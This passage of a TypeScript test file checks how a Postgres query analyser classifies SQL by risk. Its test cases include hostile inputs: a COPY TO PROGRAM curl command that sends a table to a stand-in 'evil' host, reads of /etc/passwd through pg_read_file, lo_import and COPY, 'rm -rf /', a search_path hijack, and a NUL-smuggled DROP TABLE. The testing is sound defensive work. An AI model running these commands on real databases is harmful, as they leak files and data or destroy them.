  ['DISCARD ALL', 'privilege'],
];

const admin: Case[] = [
  // Two-phase commit: PREPARE TRANSACTION keeps locks beyond the session; COMMIT/ROLLBACK
  // PREPARED finish any session's prepared transaction.
  ["PREPARE TRANSACTION 'x'", 'admin', { kinds: ['PREPARE TRANSACTION'], flags: ['prepared_transaction'] }],
  ["COMMIT PREPARED 'x'", 'admin', { kinds: ['COMMIT PREPARED'], flags: ['prepared_transaction'] }],
  ["ROLLBACK PREPARED 'x'", 'admin', { kinds: ['ROLLBACK PREPARED'], flags: ['prepared_transaction'] }],
  ["BEGIN; UPDATE t SET a = 1 WHERE id = 1; PREPARE TRANSACTION 'tx1'", 'admin', { flags: ['multi_statement', 'prepared_transaction'] }],
  ["ALTER SYSTEM SET work_mem = '1GB'", 'admin'],
  ['ALTER SYSTEM RESET ALL', 'admin'],
  ['VACUUM', 'admin', { kinds: ['VACUUM'] }],
  ['VACUUM (FULL, ANALYZE) t', 'admin', { onlyTables: ['w:t'] }],
  ['ANALYZE t', 'admin', { kinds: ['ANALYZE'] }],
  ['REINDEX TABLE t', 'admin'],
  ['REINDEX DATABASE db', 'admin'],
  ['CLUSTER t USING i', 'admin'],
  ['CHECKPOINT', 'admin', { kinds: ['CHECKPOINT'] }],
  ["LOAD 'auto_explain'", 'admin', { flags: ['file_access'] }],
  ['CREATE DATABASE d', 'admin', { kinds: ['CREATE DATABASE'] }],
  ['DROP DATABASE d', 'admin', { kinds: ['DROP DATABASE'] }],
  ['ALTER DATABASE d SET work_mem = 1', 'admin'],
  ['ALTER DATABASE d OWNER TO bob', 'privilege'],
  ["CREATE TABLESPACE ts LOCATION '/tmp/ts'", 'admin'],
  ['DROP TABLESPACE ts', 'admin'],
  ['CREATE EXTENSION dblink', 'admin'],
  ['ALTER EXTENSION e UPDATE', 'admin'],
  ['DROP EXTENSION dblink', 'schema'],
  ['CREATE LANGUAGE plperlu', 'admin'],
  ['CREATE ACCESS METHOD am TYPE TABLE HANDLER heap_tableam_handler', 'admin'],
  ['CREATE FOREIGN DATA WRAPPER w', 'admin'],
  ['CREATE PUBLICATION p FOR ALL TABLES', 'admin'],
  ["CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", 'admin', { flags: ['network'] }],
  ['DROP SUBSCRIPTION s', 'admin'],
  ['CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()', 'admin'],
  ["SET session_replication_role = 'replica'", 'admin'],
  ['SELECT pg_terminate_backend(123)', 'admin', { flags: ['side_effect_function'], functions: ['pg_terminate_backend'] }],
  ['SELECT pg_cancel_backend(pid) FROM pg_stat_activity', 'admin'],
  ['SELECT pg_reload_conf()', 'admin'],
  ['SELECT pg_rotate_logfile()', 'admin'],
  ["SELECT pg_create_logical_replication_slot('s', 'pgoutput')", 'admin'],
  ["SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", 'admin'],
  ['SELECT pg_stat_reset()', 'admin'],
  ['SELECT pg_switch_wal()', 'admin'],
  ["SELECT pg_read_file('/etc/passwd')", 'admin', { flags: ['file_access'] }],
  ["SELECT pg_read_binary_file('/etc/passwd')", 'admin', { flags: ['file_access'] }],
  ["SELECT * FROM pg_ls_dir('.')", 'admin', { flags: ['file_access'] }],
  ["SELECT pg_stat_file('postgresql.conf')", 'admin', { flags: ['file_access'] }],
  ["SELECT lo_import('/etc/passwd')", 'admin', { flags: ['file_access'] }],
  ["SELECT lo_export(1234, '/tmp/x')", 'admin', { flags: ['file_access'] }],
  ["SELECT pg_catalog.pg_read_file('x')", 'admin'],
  ["SELECT 1 FROM t WHERE pg_read_file('x') IS NOT NULL", 'admin'],
  ["COPY t FROM '/etc/passwd'", 'admin', { flags: ['file_access'], paths: ['r:/etc/passwd'], tables: ['w:t'] }],
  ["COPY t TO '/tmp/out.csv'", 'admin', { flags: ['file_access'], paths: ['w:/tmp/out.csv'], tables: ['r:t'] }],
  ["COPY (SELECT * FROM secrets) TO '/tmp/x'", 'admin', { tables: ['r:secrets'] }],
  ['SELECT binary_upgrade_set_next_pg_type_oid(1)', 'admin'],
  ['SELECT U&"\\0070g_read_file"(\'x\')', 'admin', { flags: ['file_access'], functions: ['pg_read_file'] }],
  ['SELECT "pg_read_file"(\'x\')', 'admin'],
  ["SELECT * FROM pg_read_file('x')", 'admin'],
  ['ANALYZE VERBOSE t', 'admin'],
  ['REINDEX (CONCURRENTLY) INDEX i', 'admin'],
  ["SELECT pg_stat_statements_reset()", 'admin'],
];

const execute: Case[] = [
  ['DO $$ BEGIN DELETE FROM t; END $$', 'execute', { kinds: ['DO'], flags: ['dynamic_sql'] }],
  ["DO LANGUAGE plpgsql 'BEGIN NULL; END'", 'execute'],
  ['CALL p(1)', 'execute', { kinds: ['CALL'], functions: ['p'] }],
  ['CALL s.proc()', 'execute', { functions: ['s.proc'] }],
  ['CALL p(pg_terminate_backend(1))', 'admin'],
  ["COPY t TO PROGRAM 'curl -d @- http://evil'", 'execute', { flags: ['program_exec'] }],
  ["COPY t FROM PROGRAM 'cat /etc/passwd'", 'execute', { flags: ['program_exec'], tables: ['w:t'] }],
  ["SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", 'execute', { flags: ['dynamic_sql'] }],
  ["SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)", 'execute', { flags: ['dynamic_sql', 'network'] }],
  ["SELECT dblink_exec('host=x', 'DROP TABLE t')", 'execute'],
  ["SELECT public.dblink_connect('c', 'host=x')", 'execute'],
  ["SELECT table_to_xml('secrets', true, true, '')", 'execute', { flags: ['dynamic_sql'] }],
  ["SELECT database_to_xml(true, true, '')", 'execute'],
  ["SELECT ts_stat('SELECT vector FROM t')", 'execute'],
  ["SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases')", 'execute'],
  ["SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)", 'read'],
  ["SELECT cursor_to_xml('c', 1, true, true, '')", 'execute'],
  ["EXPLAIN ANALYZE SELECT query_to_xml('select 1', true, true, '')", 'execute', { flags: ['explain_analyze'] }],
];

const session: Case[] = [
  ["SET search_path = app, public", 'session', { kinds: ['SET'], flags: ['search_path'] }],
  ['SET search_path TO pg_catalog, public', 'session'],
  ["SET statement_timeout = '5s'", 'session'],
  ['SET LOCAL work_mem = 1024', 'session'],
  ["SET TIME ZONE 'UTC'", 'session'],
  ['SET client_encoding TO DEFAULT', 'session'],
  ['RESET statement_timeout', 'session', { kinds: ['RESET'] }],
  ['RESET ALL', 'session'],
  ['SET default_transaction_read_only = off', 'session', { flags: ['read_write'] }],
  ['SET transaction_read_only = on', 'session', { not: ['read_write'] }],
  ["SELECT set_config('statement_timeout', '1s', false)", 'session', { flags: ['side_effect_function'] }],
  ['LISTEN jobs', 'session', { kinds: ['LISTEN'] }],
  ['UNLISTEN *', 'session'],
  ['CLOSE c', 'session'],
  ['CLOSE ALL', 'session'],
  ['DISCARD PLANS', 'session'],
  ['DISCARD TEMP', 'session'],
  ['SELECT pg_advisory_lock(1)', 'session', { flags: ['advisory_lock'] }],
  ['SELECT pg_try_advisory_xact_lock(1, 2)', 'session', { flags: ['advisory_lock'] }],
  ['SELECT pg_advisory_unlock_all()', 'session'],
  ['SELECT setseed(0.5)', 'session'],
  ['DEALLOCATE ALL', 'session'],
];

const transaction: Case[] = [
  ['BEGIN', 'transaction', { kinds: ['BEGIN'] }],
  ['BEGIN ISOLATION LEVEL SERIALIZABLE', 'transaction'],
  ['BEGIN READ WRITE', 'transaction', { flags: ['read_write'] }],
  ['START TRANSACTION READ ONLY', 'transaction', { not: ['read_write'] }],
  ['COMMIT', 'transaction', { kinds: ['COMMIT'] }],
  ['END', 'transaction'],
  ['ROLLBACK', 'transaction', { kinds: ['ROLLBACK'] }],
  ['ABORT', 'transaction'],
  ['SAVEPOINT s1', 'transaction', { kinds: ['SAVEPOINT'] }],
  ['RELEASE SAVEPOINT s1', 'transaction'],
  ['ROLLBACK TO SAVEPOINT s1', 'transaction'],
  ['SET TRANSACTION ISOLATION LEVEL REPEATABLE READ', 'transaction'],
  ['SET TRANSACTION READ WRITE', 'transaction', { flags: ['read_write'] }],
  ['SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY', 'transaction'],
  ['SET CONSTRAINTS ALL DEFERRED', 'transaction', { kinds: ['SET CONSTRAINTS'] }],
  ['BEGIN; SELECT 1; COMMIT', 'transaction', { flags: ['multi_statement'], kinds: ['BEGIN', 'SELECT', 'COMMIT'] }],
];

// Functions and operators that are not known built-ins: never a read.
const unknownCalls: Case[] = [
  ['SELECT myfn()', 'unknown', { flags: ['unknown_function'], functions: ['myfn'], error: /myfn/ }],
  ['SELECT * FROM t WHERE evil(x)', 'unknown'],
  ['SELECT * FROM t ORDER BY evil(x)', 'unknown'],
  ['SELECT * FROM t GROUP BY evil(x)', 'unknown'],
  ['SELECT x FROM t LIMIT evil()', 'unknown'],
  ['SELECT CASE WHEN true THEN evil() END', 'unknown'],
  ['SELECT coalesce(null, evil())', 'unknown'],
  ['SELECT * FROM evil_srf()', 'unknown'],
  ['SELECT * FROM t, LATERAL evil(t.x) e', 'unknown'],
  ['SELECT (SELECT evil())', 'unknown'],
  ['SELECT ARRAY[evil()]', 'unknown'],
  ['SELECT count(*) FILTER (WHERE evil()) FROM t', 'unknown'],
  ['SELECT sum(x) OVER (PARTITION BY evil()) FROM t', 'unknown'],
  ['VALUES (evil())', 'unknown'],
  ['INSERT INTO t VALUES (evil())', 'unknown'],
  ['INSERT INTO t SELECT 1 RETURNING evil()', 'unknown'],
  ['UPDATE t SET a = evil() WHERE id = 1', 'unknown'],
  ['DELETE FROM t WHERE id = 1 RETURNING evil(id)', 'unknown'],
  ['CREATE TABLE t (a int DEFAULT evil())', 'unknown'],
  ['CREATE INDEX i ON t (evil(a))', 'unknown'],
  ['ALTER TABLE t ADD COLUMN c int DEFAULT evil()', 'unknown'],
  ['SELECT public.lower(\'x\')', 'unknown', { functions: ['public.lower'] }],
  ['SELECT "Lower"(\'x\')', 'unknown', { error: /Lower/ }],
  ['SELECT "LOWER"(\'x\')', 'unknown'],
  ['SELECT myschema.count(*) FROM t', 'unknown'],
  ['SELECT 1 === 2', 'unknown', { flags: ['unknown_operator'] }],
  ['SELECT 1 OPERATOR(public.+) 2', 'unknown', { flags: ['unknown_operator'] }],
  ['SELECT * FROM t WHERE a @@@@ b', 'unknown'],
  ['SELECT * FROM t ORDER BY a USING ~<~~', 'unknown'],
  ['SELECT x = ANY (SELECT 1) FROM t', 'read'],
  ['SELECT x <<>> ANY (SELECT 1) FROM t', 'unknown'],
  ['SELECT * FROM t TABLESAMPLE evil_method(1)', 'unknown', { error: /TABLESAMPLE/ }],
  ["SELECT set_config(name, 'x', false) FROM t", 'unknown', { error: /set_config/ }],
  ['SET search_path = evil, pg_catalog', 'unknown', { flags: ['search_path'], error: /pg_catalog/ }],
  ["SELECT set_config('search_path', 'evil, pg_catalog', false)", 'unknown'],
  ['EXPLAIN SELECT evil()', 'unknown'],
  ['CREATE VIEW v AS SELECT evil()', 'unknown'],
  ["SELECT pg_catalog.set_config('role', 'x', false), evil()", 'unknown'],
  ['SELECT * FROM t WHERE a = ANY(ARRAY(SELECT evil()))', 'unknown'],
  ['COPY t FROM STDIN WHERE evil(x)', 'unknown'],
  ['SELECT (evil()).*', 'unknown'],
  ['CREATE TABLE t (id int GENERATED ALWAYS AS (evil(id)) STORED)', 'unknown'],
  ["SELECT myschema.digest('x', 'sha256')", 'unknown', { error: /digest/ }],
  ["SELECT * FROM crosstab('SELECT 1') AS ct(a int)", 'execute', { flags: ['dynamic_sql'] }],
  ['MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE RETURNING evil()', 'unknown'],
  ["SELECT set_config('role', current_user, false)", 'privilege'],
];

describe('postgres analyser', () => {
  let analyser: PostgresAnalyser;
  before(async () => {
    analyser = await createPostgresAnalyser();
  });

  const tables: [string, Case[]][] = [
    ['reads', reads],
    ['look-alikes', lookAlikes],
    ['writes', writes],
    ['whole-table writes', wholeTable],
    ['data-modifying CTEs', cteWrites],
    ['schema', schema],
    ['privilege', privilege],
    ['admin', admin],
    ['execute', execute],
    ['session', session],
    ['transaction', transaction],
    ['unknown functions and operators', unknownCalls],
  ];
  for (const [name, cases] of tables) {
    it(`classifies ${name} (${cases.length} cases)`, () => {
      checkAll(cases, (c) => analyser.analyse(c));
    });
  }

  it('reports the language, the riskiest class and every class of a multi-statement input', () => {
    const i = analyser.analyse('SELECT 1; DELETE FROM t WHERE id = 1; DROP TABLE u');
    assert.equal(i.language, 'postgres');
    assert.equal(i.class, 'schema');
    assert.deepEqual([...i.classes].sort(), ['read', 'schema', 'write']);
    assert.deepEqual(i.parts.map((p) => p.kind), ['SELECT', 'DELETE', 'DROP TABLE']);
    assert.ok(i.flags.includes('multi_statement'));
    checkIntent(analyser.analyse("SELECT 'x'; SELECT 2"), 'read', { flags: ['multi_statement'] });
    checkIntent(analyser.analyse('SELECT 1;\nTRUNCATE t'), 'write', { flags: ['multi_statement', 'no_where'] });
    checkIntent(analyser.analyse('SELECT 1; SELECT pg_read_file(\'x\'); SELECT 2'), 'admin');
  });

  it('treats parse errors and unsupported input as unknown with an error', () => {
    for (const sql of ['SELEC 1', 'DELETE t', 'SELECT FROM WHERE', "SELECT 'unterminated", 'SELECT $$ x', '\\! rm -rf /', 'SELECT 1 +', 'DROP']) {
      const i = analyser.analyse(sql);
      checkIntent(i, 'unknown', { error: /parse error/ }, sql);
      assert.equal(i.parts.length, 0);
    }
    checkIntent(analyser.analyse('SELECT 1\u0000; DROP TABLE t'), 'unknown', { error: /NUL/ });
  });

  it('takes EXECUTE from the session, and is unknown for a statement it has not seen', () => {
    const s: AnalysisSession = { prepared: new Map() };
    checkIntent(analyser.analyse('EXECUTE p(1)', s), 'unknown', { error: /not seen/ });
    checkIntent(analyser.analyse('EXECUTE p(1)'), 'unknown');
    checkIntent(analyser.analyse('PREPARE p(int) AS DELETE FROM t WHERE id = $1', s), 'write', { kinds: ['PREPARE'], tables: ['w:t'], flags: ['prepare'] });
    assert.equal(s.prepared.get('p')?.class, 'write');
    checkIntent(analyser.analyse('EXECUTE p(1)', s), 'write', { kinds: ['EXECUTE'], tables: ['w:t'], flags: ['prepared'] });
    checkIntent(analyser.analyse('EXECUTE p(pg_terminate_backend(1))', s), 'admin');
    checkIntent(analyser.analyse('EXPLAIN ANALYZE EXECUTE p(1)', s), 'write', { flags: ['explain_analyze'] });
    checkIntent(analyser.analyse('EXPLAIN EXECUTE p(1)', s), 'read');
    checkIntent(analyser.analyse('CREATE TABLE x AS EXECUTE p(1)', s), 'schema');
    checkIntent(analyser.analyse('PREPARE q AS SELECT * FROM t', s), 'read');
    checkIntent(analyser.analyse('EXECUTE q', s), 'read', { tables: ['r:t'] });
    checkIntent(analyser.analyse('DEALLOCATE q', s), 'session');
    checkIntent(analyser.analyse('EXECUTE q', s), 'unknown');
    checkIntent(analyser.analyse('PREPARE r AS SELECT myfn()', s), 'unknown');
    checkIntent(analyser.analyse('EXECUTE r', s), 'unknown');
    checkIntent(analyser.analyse('DEALLOCATE ALL', s), 'session');
    assert.equal(s.prepared.size, 0);
    // Prepared and executed in one input.
    checkIntent(analyser.analyse('PREPARE z AS DELETE FROM t; EXECUTE z', s), 'write', { flags: ['multi_statement', 'no_where'] });
    checkIntent(analyser.analyse('DISCARD ALL', s), 'privilege');
    assert.equal(s.prepared.size, 0);
  });

  it('keeps the riskier intent when a prepared name is reused (the server keeps the old one)', () => {
    const s: AnalysisSession = { prepared: new Map() };
    analyser.analyse('PREPARE p AS DELETE FROM t', s);
    analyser.analyse('PREPARE p AS SELECT 1', s);
    checkIntent(analyser.analyse('EXECUTE p', s), 'write');
  });

  it('takes extra function knowledge from options', async () => {
    const custom = await createPostgresAnalyser({
      safeFunctions: ['digest', 'ext.uuid_generate_v4'],
      functionEffects: { audit_log: { class: 'write', flags: ['side_effect_function'] } },
    });
    const custom2 = await createPostgresAnalyser({ safeFunctions: ['myhash', 'ext.mypure'] });
    checkIntent(custom2.analyse("SELECT myhash('x')"), 'read');
    checkIntent(custom2.analyse("SELECT other.myhash('x')"), 'unknown');
    checkIntent(custom2.analyse('SELECT ext.mypure()'), 'read');
    checkIntent(custom2.analyse('SELECT mypure()'), 'unknown');
    checkIntent(custom.analyse("SELECT audit_log('x')"), 'write', { flags: ['side_effect_function'] });
    checkIntent(analyser.analyse("SELECT myhash('x')"), 'unknown');
  });

  it('reports which results may be cached', () => {
    const s: AnalysisSession = { prepared: new Map() };
    assert.equal(analyser.analyseCacheable('SELECT 1', s).cacheable, true);
    assert.equal(analyser.analyseCacheable('PREPARE p AS SELECT 1', s).cacheable, false);
    assert.equal(analyser.analyseCacheable('EXECUTE p', s).cacheable, false);
    assert.equal(analyser.analyseCacheable('DEALLOCATE p', s).cacheable, false);
    assert.equal(analyser.analyseCacheable('DISCARD ALL', s).cacheable, false);
    assert.equal(analyser.analyseCacheable('SELECT 1; EXECUTE p', s).cacheable, false);
    assert.equal(analyser.analyseCacheable('EXPLAIN EXECUTE p', s).cacheable, false);
    assert.equal(analyser.analyseCacheable('SELEC', s).cacheable, true);
  });

  it('makes any node type the walker does not know unknown, never read', () => {
    // Node types that the raw parser never produces at top level (planner nodes, PL/pgSQL
    // statements, made-up future ones) stand in for statements the walker does not handle.
    const odd = [
      { PLAssignStmt: { name: 'x' } },
      { SetOperationStmt: {} },
      { Query: {} },
      { FutureStmt: { relation: { relname: 't' } } },
      { SelectStmt: { targetList: [{ ResTarget: { val: { FuncExpr: { funcid: 1 } } } }] } },
      { SelectStmt: { targetList: [{ ResTarget: { val: { Var: {} } } }] } },
      { SelectStmt: { fromClause: [{ RangeTblEntry: {} }] } },
    ];
    for (const stmt of odd) {
      const r = analyser.analyseTree({ stmts: [{ stmt }] });
      checkIntent(r.intent, 'unknown', { error: /unsupported syntax/ }, JSON.stringify(stmt));
    }
    checkIntent(analyser.analyseTree({ stmts: [{}] }).intent, 'unknown');
  });

  it('survives huge, deep and random input without throwing', () => {
    const big = `SELECT '${'x'.repeat(MAX_POSTGRES_INPUT)}'`;
    checkIntent(analyser.analyse(big), 'unknown', { error: /limit/ });
    checkIntent(analyser.analyse('x'.repeat(10 * 1024 * 1024)), 'unknown', { error: /limit/ });
    checkIntent(analyser.analyse(`SELECT ${'('.repeat(100_000)}1${')'.repeat(100_000)}`), 'unknown');
    checkIntent(analyser.analyse(`SELECT ${'NOT '.repeat(50_000)}true`), 'unknown');
    checkIntent(analyser.analyse(`SELECT ${Array(20_000).fill('1').join('+')}`), 'unknown');
    checkIntent(analyser.analyse(`SELECT ${'(SELECT '.repeat(2_000)}1${')'.repeat(2_000)}`), 'unknown');
    // Deep but legitimate nesting still works.
    checkIntent(analyser.analyse(`SELECT ${'(SELECT '.repeat(20)}1${')'.repeat(20)}`), 'read');
    checkIntent(analyser.analyse(`SELECT ${Array(300).fill('1').join('+')}`), 'read');
    // Wide input within limits.
    checkIntent(analyser.analyse(`SELECT ${Array.from({ length: 5_000 }, (_, k) => `c${k}`).join(', ')} FROM t`), 'read');
    checkIntent(analyser.analyse(`INSERT INTO t VALUES ${Array.from({ length: 2_000 }, (_, k) => `(${k}, 'v${k}')`).join(', ')}`), 'write');
    const next = rng(42);
    const alphabet = "SELECT*FROMWHERE;'\"$()-/\\ \n\t,.:=<>!@#%^&|~`{}[]0123456789abcdefxyz\u00e9\u4e2d\ud83d\ude00";
    for (let n = 0; n < 1500; n++) {
      const len = Math.floor(next() * 80);
      let s = '';
      for (let k = 0; k < len; k++) s += alphabet[Math.floor(next() * alphabet.length)];
      const i = analyser.analyse(s);
      assert.ok(typeof i.class === 'string');
      if (i.class === 'read') assert.equal(i.error, undefined);
    }
    for (let n = 0; n < 300; n++) {
      const bytes = Array.from({ length: Math.floor(next() * 64) }, () => Math.floor(next() * 256));
      const i = analyser.analyse(String.fromCharCode(...bytes));
      assert.ok(typeof i.class === 'string');
    }
    // Not even a string.
    checkIntent(analyser.analyse(undefined as unknown as string), 'unknown');
  });

  it('handles a large statement inside the limit in reasonable time', () => {
    const sql = `SELECT ${Array.from({ length: 20_000 }, (_, k) => `c${k}`).join(', ')} FROM t`;
    const t0 = performance.now();
    checkIntent(analyser.analyse(sql), 'read');
    assert.ok(performance.now() - t0 < 5_000);
  });
});
